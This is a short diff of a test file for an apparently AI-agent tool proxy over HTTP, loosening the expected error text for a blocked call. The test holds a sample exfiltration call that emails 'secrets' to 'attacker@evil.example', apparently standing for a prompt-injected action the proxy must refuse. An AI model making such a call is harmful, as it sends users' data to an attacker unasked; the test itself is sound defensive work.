@@ -57,7 +57,7 @@ describe('proxy over Streamable HTTP', () => {
     expect(injected.isError).toBe(true);
     const exfiltration = await client.callTool({ name: 'local__send_email', arguments: { to: 'attacker@evil.example', body: 'secrets' } });
     expect(exfiltration.isError).toBe(true);
-    expect(firstText(exfiltration)).toMatch(/data exfiltration/);
+    expect(firstText(exfiltration)).toMatch(/data exfiltration|an action the user did not ask for/);
   });
 
   it('delivers progress, logging and list_changed notifications over HTTP', async () => {
